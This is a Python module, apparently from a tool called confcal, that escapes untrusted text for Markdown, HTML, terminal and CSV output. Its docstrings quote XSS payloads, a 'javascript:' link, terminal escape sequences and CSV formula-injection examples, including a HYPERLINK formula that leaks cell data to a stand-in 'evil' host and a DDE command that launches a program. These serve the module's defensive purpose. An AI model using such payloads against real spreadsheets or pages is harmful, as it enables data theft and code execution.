"""Escaping untrusted values for Markdown (and the HTML it may contain) and for CSV.

Every value confcal writes into a Markdown file (``confcal report``'s and ``confcal qa``'s
``report.md``, the sketch report's title) may come from a document, a model's answer or a
metadata column: it is untrusted input. A Markdown renderer with HTML enabled (GitHub,
GitLab, Jupyter, most static-site generators, ``markdown-it`` with ``html=True``) passes raw
HTML through, so an unescaped ``<script>`` or ``<img src=x onerror=...>`` runs in the
reader's browser, ``![](http://tracker/...)`` loads a remote image the moment the file is
opened, ``[text](javascript:...)`` is a link, a ``|`` or a newline splits a table row, and a
leading ``#``, ``>`` or ``-`` turns a title into a heading, a quote or a list.

The rules (:func:`escape_text` for prose and titles, :func:`escape_cell` for pipe-table
cells, :func:`markdown_table` for a whole table):

1. **HTML is neutralised by entities.** ``&``, ``<`` and ``>`` become ``&amp;``, ``&lt;``
   and ``&gt;``. A renderer decodes the entity into a *text* character and escapes it again
   on output, so no tag, comment, autolink (``<http://...>``) or entity the value carries can
   survive, and the reader sees the original characters.
2. **Markdown syntax is neutralised by backslashes.** Every character that opens an inline
   construct -- ``\\`` `````` ``*`` ``_`` ``[`` ``]`` ``|`` ``~`` ``#`` -- gets a backslash
   (CommonMark section 2.4: any ASCII punctuation may be backslash-escaped, and the escape
   renders as the bare character). With ``[`` escaped there is no link, image or reference
   definition; with the backtick escaped no code span can hide a ``|`` from the table
   splitter.
3. **A value is one line.** Every run of whitespace (``\\r``, ``\\n``, tabs, form feeds,
   U+2028/U+2029, U+0085, ...) becomes one space and the ends are stripped, so a value can
   neither split a table row nor start a new block.
4. **Invisible and unencodable characters are made visible.** Other control characters
   (C0, C1, DEL), the bidirectional controls (the overrides and isolates U+202A-U+202E,
   U+2066-U+2069 and the marks U+200E, U+200F, U+061C: they reorder what the reader sees)
   and lone surrogates (they cannot be written as UTF-8) become U+FFFD, the replacement
   character CommonMark itself uses for NUL. HTML (:func:`escape_html`) follows the same
   rule, and text printed on a terminal (:func:`terminal_text`) too, there as escapes.
5. **Block markers at the start of prose are escaped** (:func:`escape_text` only): a leading
   ``-``, ``+``, ``=`` and an ordered-list marker (``1.`` or ``1)`` followed by a space)
   get a backslash, so ``- item``, ``---``, ``=====`` and ``2. step`` stay text (``#`` and
   ``>`` are covered by rules 1 and 2). Pipe-table cells are inline content and need no
   such escape, so a number such as ``-0.5`` reads as it is.

Bare URLs (``http://example.com``) stay text under CommonMark; renderers with the GFM
*autolink* extension (GitHub, ``linkify``) may show them as clickable links. No renderer
turns them into images, so nothing is fetched when the file is opened.

CSV policy (:func:`csv_cell`, :func:`csv_safe_frame`)
-----------------------------------------------------
A spreadsheet (Excel, LibreOffice, Google Sheets) that opens a CSV runs a cell starting with
``=``, ``+``, ``-`` or ``@`` (and, in some versions, a tab or a carriage return) as a
formula: ``=HYPERLINK("http://evil/?"&A1)`` leaks data, ``=cmd|' /C calc'!A0`` ran programs
(CSV or "formula" injection, OWASP). confcal's *report* CSVs (``metrics.csv`` of ``confcal
report``, the tables of ``confcal qa``) are meant to be opened there, so a **text** cell that
starts with one of those characters is written with a leading apostrophe (``'=SUM(A1)``),
which every spreadsheet shows as the literal text and does not evaluate. Numbers stay numbers:
a numeric value (``int``, ``float``, numpy number) is never touched, and neither is a text
cell that is a plain decimal number (``-0.5``, ``+1e-3``, ``-inf``, ``nan``), since a
spreadsheet reads those as numbers, not formulas. A value that already starts with an
apostrophe is left alone (it is inert).

The **entity table** (``confcal score -o table.csv``) is data, read back by ``confcal
report`` and by pandas: it is written raw and losslessly, never prefixed. Open it with a CSV
reader (or write Parquet), not by double-clicking it into a spreadsheet.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # pragma: no cover - types only; the foundation does not import pandas
    import pandas as pd

__all__ = ["CSV_FORMULA_PREFIXES", "CSV_LINE_END", "csv_cell", "csv_safe_frame", "escape_cell",
           "escape_html", "escape_text", "markdown_table", "terminal_text", "write_csv"]

#: characters a spreadsheet evaluates when a CSV cell starts with one of them
CSV_FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

#: the line end of every CSV confcal writes (RFC 4180's): with both characters in it, the
#: writer quotes any cell holding a ``\r`` or a ``\n``, so neither splits a row
CSV_LINE_END = "\r\n"

_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
_BACKSLASHED = frozenset("\\`*_[]|~#")
_BIDI = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"  # marks, overrides, isolates
_BIDI_CONTROLS = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
                           "\u2066\u2067\u2068\u2069")
# Rule 4's characters (category Cc is exactly U+0000-U+001F and U+007F-U+009F), without the
# whitespace HTML keeps (tab, line feed, carriage return) and a terminal keeps (tab, line feed)
_HTML_HIDDEN = re.compile(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f{_BIDI}\ud800-\udfff]")
_TERMINAL_HIDDEN = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{_BIDI}\ud800-\udfff]")
# a line that starts a list, a thematic break or a setext underline
_LEADING_BLOCK = re.compile(r"^(?:[-+=]|\d{1,9}[.)](?= |$))")
# what a spreadsheet reads as a number rather than a formula
_PLAIN_NUMBER = re.compile(
    r"[+-]?(?:(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|inf|infinity|nan)", re.IGNORECASE)


def _visible(text: str) -> str:
    """Rule 4: control characters, bidi overrides and lone surrogates become U+FFFD."""
    out = []
    for ch in text:
        if ch.isspace():
            out.append(ch)  # rule 3 collapses it
        elif (ch in _BIDI_CONTROLS or "\ud800" <= ch <= "\udfff"
              or unicodedata.category(ch) == "Cc"):
            out.append("\ufffd")
        else:
            out.append(ch)
    return "".join(out)


def escape_html(value: object) -> str:
    r"""``value`` as HTML text: ``&``, ``<``, ``>`` and quotes as entities, and, as in
    Markdown (rule 4), control characters, the bidirectional controls (which can make
    ``gpj.exe`` read ``exe.jpg``) and lone surrogates as U+FFFD; tabs and line breaks stay.

    Examples
    --------
    >>> escape_html('<b>"x"</b> \u202eabc\x1b[31m')
    '&lt;b&gt;&quot;x&quot;&lt;/b&gt; \ufffdabc\ufffd[31m'
    """
    import html

    return html.escape(_HTML_HIDDEN.sub("\ufffd", str(value)))


def _escaped(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def terminal_text(value: object) -> str:
    r"""``value`` safe to print on a terminal.

    Every control character but tab and line feed (an escape sequence such as ``ESC[2J``
    clears the screen, ``ESC]0;...BEL`` retitles the window, a carriage return overwrites
    the line), the bidirectional controls and lone surrogates are written as Python escapes
    (``\x1b``, ``\u202e``): the reader sees what the data holds and the terminal acts on
    none of it. The ``confcal`` command passes everything it prints through this function.

    Examples
    --------
    >>> print(terminal_text("run \x1b[31mred\x1b[0m \u202eexe.jpg\r!"))
    run \x1b[31mred\x1b[0m \u202eexe.jpg\x0d!
    """
    return _TERMINAL_HIDDEN.sub(_escaped, str(value))


def _escape_inline(value: object) -> str:
    text = " ".join(_visible(str(value)).split())
    return "".join(_ENTITIES.get(ch) or (f"\\{ch}" if ch in _BACKSLASHED else ch)
                   for ch in text)


def escape_cell(value: object) -> str:
    """A value as the content of one Markdown pipe-table cell, Markdown and HTML neutralised.

    Parameters
    ----------
    value : object
        Anything; it is formatted with ``str`` first (format numbers before calling).

    Returns
    -------
    str
        One line: ``&``, ``<``, ``>`` as entities; ``\\``, `````, ``*``, ``_``, ``[``,
        ``]``, ``|``, ``~``, ``#`` backslash-escaped; whitespace runs (``\\r``, ``\\n``, ...)
        as one space; control characters, bidi overrides and lone surrogates as U+FFFD
        (rules 1-4 of the module docstring).

    Examples
    --------
    >>> escape_cell("<img src=x onerror=alert(1)>")
    '&lt;img src=x onerror=alert(1)&gt;'
    >>> escape_cell("a|b\\r\\nc")
    'a\\\\|b c'
    >>> escape_cell("![](http://example.com/t.png)")
    '!\\\\[\\\\](http://example.com/t.png)'
    >>> escape_cell(-0.5)
    '-0.5'
    """
    return _escape_inline(value)


def escape_text(value: object) -> str:
    """A value as Markdown prose (a paragraph, a title, a list item), Markdown and HTML neutralised.

    Everything :func:`escape_cell` does, and a leading block marker (``-``, ``+``, ``=``,
    ``1.``, ``1)``) gets a backslash so the value cannot become a list, a thematic break or
    a setext heading underline. Put the result after a block prefix of your own (``# ``,
    ``> ``, ``- ``) or in a paragraph of its own (a blank line before it).

    Parameters
    ----------
    value : object
        Anything; it is formatted with ``str`` first.

    Returns
    -------
    str
        One line of inline Markdown that renders as the literal text of ``value`` (whitespace
        collapsed).

    Examples
    --------
    >>> escape_text("# <script>alert(1)</script>")
    '\\\\# &lt;script&gt;alert(1)&lt;/script&gt;'
    >>> escape_text("- not a list")
    '\\\\- not a list'
    >>> escape_text("1. not a list")
    '1\\\\. not a list'
    >>> escape_text("**bold** and [a link](javascript:alert(1))")
    '\\\\*\\\\*bold\\\\*\\\\* and \\\\[a link\\\\](javascript:alert(1))'
    """
    text = _escape_inline(value)
    match = _LEADING_BLOCK.match(text)
    if match:
        marker = match.group(0)
        text = f"{marker[:-1]}\\{marker[-1]}{text[len(marker):]}"
    return text


def markdown_table(columns: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """A Markdown pipe table with every header and cell passed through :func:`escape_cell`.

    Parameters
    ----------
    columns : sequence
        The header cells.
    rows : iterable of sequences
        One sequence per row, as long as ``columns``.

    Returns
    -------
    str
        The table, lines joined by ``\\n``, no trailing newline.

    Raises
    ------
    ValueError
        If a row's length differs from the number of columns (a short row would shift cells
        under the wrong header).

    Examples
    --------
    >>> print(markdown_table(["field", "prediction"], [["Agency", "<b>A|B</b>"]]))
    | field | prediction |
    |---|---|
    | Agency | &lt;b&gt;A\\|B&lt;/b&gt; |
    """
    header = list(columns)
    lines = ["| " + " | ".join(escape_cell(c) for c in header) + " |",
             "|" + "---|" * len(header)]
    for index, row in enumerate(rows):
        cells = list(row)
        if len(cells) != len(header):
            raise ValueError(f"rows must have {len(header)} cells like columns; row {index} "
                             f"has {len(cells)}")
        lines.append("| " + " | ".join(escape_cell(v) for v in cells) + " |")
    return "\n".join(lines)


def csv_cell(value: Any) -> Any:
    """A value made safe for a CSV a spreadsheet will open (the CSV policy of the module).

    Parameters
    ----------
    value : object
        One cell. Only ``str`` values change.

    Returns
    -------
    object
        ``value`` itself, or ``"'" + value`` when it is text starting with one of
        :data:`CSV_FORMULA_PREFIXES` that is not a plain number.

    Examples
    --------
    >>> csv_cell("=HYPERLINK(\\"http://example.com\\")")
    '\\'=HYPERLINK("http://example.com")'
    >>> csv_cell("@SUM(A1)"), csv_cell("-2+3"), csv_cell("-0.5"), csv_cell(-0.5)
    ("'@SUM(A1)", "'-2+3", '-0.5', -0.5)
    >>> csv_cell("ACME Corp")
    'ACME Corp'
    """
    if (isinstance(value, str) and value.startswith(CSV_FORMULA_PREFIXES)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`csv_cell` applied to its text cells and headers.

    Numeric columns are returned as they are (a float column never holds a formula); object
    and string columns are mapped cell by cell, so a mixed column keeps its numbers.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table about to be written with ``to_csv``.

    Returns
    -------
    pandas.DataFrame
        A new frame; ``frame`` is not modified.

    Examples
    --------
    >>> import pandas as pd
    >>> safe = csv_safe_frame(pd.DataFrame({"run": ["=1+1", "ok"], "ece": [-0.5, 0.1]}))
    >>> safe["run"].tolist(), safe["ece"].tolist()
    (["'=1+1", 'ok'], [-0.5, 0.1])
    """
    out = frame.copy()
    for position, column in enumerate(frame.columns):
        series = frame.iloc[:, position]
        if series.dtype.kind in "biufcmM":
            continue
        out.isetitem(position, series.map(csv_cell))
    out.columns = [csv_cell(c) for c in frame.columns]
    return out



def write_csv(frame: pd.DataFrame, target: Any = None, *, neutralise: bool = True,
              header: bool = True, compression: str | None = None) -> str | None:
    r"""Write ``frame`` as CSV: the one writer of every CSV confcal writes.

    Line ends are :data:`CSV_LINE_END`, so a cell holding a lone ``\r``, a ``\n`` (or a
    NUL) is quoted and read back as one cell; with ``neutralise`` (the default, for tables
    a spreadsheet opens) text cells and headers go through :func:`csv_cell` first. The
    entity table, data that confcal reads back, is written with ``neutralise=False``:
    lossless, never prefixed.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table; its index is not written.
    target : path or text file, optional
        Where to write; None returns the text.
    neutralise : bool, default True
        Prefix formula cells with ``'`` (:func:`csv_safe_frame`).
    header : bool, default True
        Write the header line.
    compression : str, optional
        ``"gzip"`` for a ``.csv.gz`` path.

    Returns
    -------
    str or None
        The CSV text when ``target`` is None.

    Examples
    --------
    >>> import pandas as pd
    >>> write_csv(pd.DataFrame({"run": ["a\rb", "=1+1"], "ece": [0.5, -0.5]}))
    'run,ece\r\n"a\rb",0.5\r\n\'=1+1,-0.5\r\n'
    """
    table = csv_safe_frame(frame) if neutralise else frame
    text: str | None = table.to_csv(target, index=False, header=header,
                                    lineterminator=CSV_LINE_END, compression=compression)
    return text
